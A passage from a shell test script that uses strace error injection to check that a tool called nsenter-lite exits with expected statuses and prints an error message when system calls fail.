			capture strace -qq -f --seccomp-bpf -o trace -e "trace=$call" -e "inject=$call:error=EPERM:when=$n" \
				nsenter-lite -t "$box" -a true
			grep -q INJECTED trace || break
			case $status in
			0 | 125 | 126) ;;
			*) [[ $call = execve && $n = 1 ]] || flunk "$call $n" ;;
			esac
			if (( status == 125 || status == 126 )); then
				says '^nsenter-lite: ' || flunk "$call $n is silent"
			fi
		done
	done
}
